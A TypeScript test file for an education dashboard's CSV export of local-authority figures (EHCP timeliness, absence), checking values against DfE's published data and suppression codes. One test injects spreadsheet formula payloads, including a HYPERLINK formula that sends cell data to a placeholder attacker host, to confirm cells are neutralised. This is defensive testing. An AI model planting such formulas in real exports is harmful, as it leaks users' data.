// "Download the data (CSV)" from core: the published figures behind each chart with codes, period, unit, value,
// status and its reason, and source; values checked against DfE's own CSV, no formula can run.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, test } from 'node:test';
import { CsvTable } from '@inclusion-dashboard/pipeline';
import {
  AreaDirectory, EXPORT_COLUMNS, ExtractSet, ObservationsExtract, benchmark, breakdownChart, chartCsv, exactNumber, exportCsv,
  exportRows, exportScope, mapView, rankingChart, readAreas, readNeighbours, spineChart, trend,
} from '../src/index';
import { csvParseRows } from 'd3-dsv';

const DATA = resolve(import.meta.dirname, '../../../../shared/data/real');
const EXTRACTS = resolve(import.meta.dirname, '../../sample-data/data');
const set = new ExtractSet(
  ['attendance', 'exclusions', 'ap', 'ehcp', 'context'].map((f) => new ObservationsExtract(readFileSync(resolve(EXTRACTS, `${f}.arrow`)))),
  new AreaDirectory(readAreas(readFileSync(resolve(EXTRACTS, 'areas.arrow'))), readNeighbours(readFileSync(resolve(EXTRACTS, 'neighbours.arrow')))),
);
const ehcp = set.find('ehcp-20-weeks')!;

/** RFC 4180 records (d3-dsv), read back into objects keyed by the header. */
function parse(csv: string): Record<string, string>[] {
  const [head, ...body] = csvParseRows(csv);
  assert.deepEqual(head, EXPORT_COLUMNS.map(([, n]) => n));
  return body.map((r) => Object.fromEntries(head.map((h, i) => [h, r[i]])));
}
const csvOf = (model: unknown, ...ids: string[]) => parse(chartCsv(set, model, ids.map((id) => set.find(id)!.meta))!);

// ehcp/ehcp_2025_timeliness_20_week.csv, "All EHC plans issued": the published text of each LA's figure.
const raw = CsvTable.read(resolve(DATA, 'ehcp/ehcp_2025_timeliness_20_week.csv'));
const published = (year: string, column: string) => new Map(raw.rows
  .filter((r) => raw.get(r, 'breakdown_topic') === 'All EHC plans issued' && raw.get(r, 'time_period') === year && raw.get(r, 'geographic_level') === 'Local authority')
  .map((r) => [raw.get(r, 'old_la_code'), raw.get(r, column)]));

describe('CSV of the figures behind a chart', () => {
  test('the columns: codes, period code and label, unit, value, counts, status and reason, source', () => {
    assert.deepEqual(EXPORT_COLUMNS.map(([, n]) => n), [
      'indicator_id', 'indicator', 'geographic_level', 'area_code', 'old_la_code', 'area_name', 'time_period', 'time_label',
      'breakdown_dimension', 'breakdown', 'unit', 'unit_label', 'value', 'numerator', 'denominator', 'status', 'status_reason', 'source', 'source_url',
    ]);
  });

  test('benchmark (tile): Salford 2024 is 50.1 (231 of 461) as published, with England, North West and the neighbours', () => {
    const b = benchmark(ehcp.data, set.areas, { indicator: 'ehcp-20-weeks', area: 'Salford', period: '2024' });
    const rows = csvOf(b, 'ehcp-20-weeks');
    const salford = rows.filter((r) => r.area_name === 'Salford' && r.time_period === '2024');
    assert.equal(salford.length, 1);
    assert.deepEqual(
      { ...salford[0], source: undefined, source_url: undefined, indicator: undefined, unit_label: undefined },
      {
        indicator_id: 'ehcp-20-weeks', indicator: undefined, geographic_level: 'Local authority', area_code: 'E08000006', old_la_code: '355', area_name: 'Salford',
        time_period: '2024', time_label: '2024', breakdown_dimension: ehcp.meta.breakdown.dimension, breakdown: ehcp.meta.breakdown.total, unit: 'percent', unit_label: undefined,
        value: '50.1', numerator: '231', denominator: '461', status: '', status_reason: '', source: undefined, source_url: undefined,
      },
    );
    assert.match(salford[0].source, /^Department for Education, /);
    assert.match(salford[0].source_url, /^https:\/\//);
    const names = new Set(rows.map((r) => r.area_name));
    assert.ok(names.has('England') && names.has('North West'), [...names].join(', '));
    for (const n of b.neighbours.values) assert.ok(names.has(n.name), `neighbour ${n.name}`);
    // The tile shows the change from the year before: that year's figures come too.
    assert.ok(rows.some((r) => r.area_name === 'Salford' && r.time_period === b.previous?.period));
  });

  test('ranking: every LA as DfE published it, and a published "x" is the status with its reason, never 0', () => {
    const id = 'ehcp-20-weeks-excluding-exceptions';
    const r = rankingChart(set.find(id)!.data, set.areas, { indicator: id, area: 'Salford', period: '2024' });
    const rows = csvOf(r, id).filter((x) => x.geographic_level === 'Local authority');
    const text = published('2024', 'PC_plans_issued_20_weeks_ex');
    assert.ok(rows.length >= 150, `${rows.length} LAs`);
    let compared = 0;
    for (const row of rows) {
      const p = text.get(row.old_la_code);
      if (p === undefined) continue;
      compared++;
      if (p === 'x') assert.deepEqual([row.value, row.status, row.status_reason], ['', 'x', 'not available'], row.area_name);
      else assert.equal(row.value, String(Number(p)), `${row.area_name}: published ${p}`);
    }
    assert.ok(compared >= 150, `${compared} compared with the published CSV`);
    const city = rows.find((x) => x.old_la_code === '201')!;
    assert.deepEqual([city.area_name, city.value, city.status], ['City of London', '', 'x']);
  });

  test('a suppressed figure is "c" with reason "suppressed" (breakdown chart, Isles of Scilly 2017/18)', () => {
    const b = breakdownChart(set.find('persistent-absence-sen')!.data, set.areas, { indicator: 'persistent-absence-sen', area: 'Isles of Scilly', period: '201718' });
    const rows = csvOf(b, 'persistent-absence-sen');
    const sen = rows.find((r) => r.area_name === 'Isles of Scilly' && r.breakdown === 'Any special educational need')!;
    assert.deepEqual([sen.old_la_code, sen.area_code, sen.time_label, sen.value, sen.status, sen.status_reason], ['420', 'E06000053', '2017/18', '', 'c', 'suppressed']);
    assert.ok(rows.some((r) => r.area_name === 'England'), 'England, which each bar is compared with');
    assert.deepEqual(new Set(rows.map((r) => r.breakdown)), new Set(b.rows.map((x) => x.breakdown)));
  });

  test('trend: the area, its region and England over the periods shown, oldest first', () => {
    const t = trend(set.find('persistent-absence')!.data, set.areas, { indicator: 'persistent-absence', area: 'Salford' }, 10);
    const rows = csvOf(t, 'persistent-absence');
    const salford = rows.filter((r) => r.area_name === 'Salford').map((r) => r.time_period);
    assert.deepEqual(salford, t.periods.filter((p) => salford.includes(p)));
    assert.ok(salford.length >= 5, salford.join(' '));
    const shown = new Set(t.series.map((s) => s.key));
    assert.equal(rows.some((r) => r.area_name === 'England'), shown.has('england'));
    assert.equal(rows.some((r) => r.area_name === 'North West'), shown.has('region'));
  });

  test('map and spine: one period for the map; each spine indicator at its own period', () => {
    const m = mapView(ehcp.data, set.areas, { indicator: 'ehcp-20-weeks', area: 'Salford', period: '2024' });
    const rows = csvOf(m, 'ehcp-20-weeks');
    assert.deepEqual(new Set(rows.map((r) => r.time_period)), new Set(['2024']));
    assert.ok(rows.filter((r) => r.geographic_level === 'Local authority').length >= 150);
    const s = spineChart(set, 'Salford');
    const ids = s.rows.map((r) => r.indicator.id);
    const srows = csvOf(s, ...ids);
    for (const r of s.rows) {
      const mine = srows.filter((x) => x.indicator_id === r.indicator.id && x.area_name === 'Salford');
      assert.deepEqual(mine.map((x) => x.time_period), [r.period], r.indicator.id);
    }
  });

  test('no cell can run as a formula, whatever the extract says; negative numbers stay numbers', () => {
    const scope = exportScope(benchmark(ehcp.data, set.areas, { indicator: 'ehcp-20-weeks', area: 'Salford', period: '2024' }), [ehcp.meta]);
    const real = exportRows(set, scope);
    const PAYLOADS = ['=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?"&A1,"Click")'];
    const hostile = real.map((r, i) => ({ ...r, areaName: PAYLOADS[i % PAYLOADS.length], indicatorLabel: PAYLOADS[(i + 1) % PAYLOADS.length], value: '-2.5' }));
    const back = parse(exportCsv(hostile));
    for (const row of back) {
      for (const c of Object.values(row)) assert.ok(!(/^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c)), JSON.stringify(c));
      assert.equal(row.value, '-2.5');
    }
    assert.equal(back[0].area_name, `'${PAYLOADS[0]}`);
  });

  test('values are the stored number in full, never rounded or in exponent form', () => {
    assert.equal(exactNumber(12.345), '12.345');
    assert.equal(exactNumber(0), '0');
    assert.equal(exactNumber(1e21), '1000000000000000000000');
    assert.equal(exactNumber(null), '');
    assert.equal(exactNumber(Number.NaN), '');
  });

  test('a model that names no figures gives null, so the element falls back to the table as shown', () => {
    assert.equal(chartCsv(set, { caption: 'x', rows: [] }, []), null);
  });
});
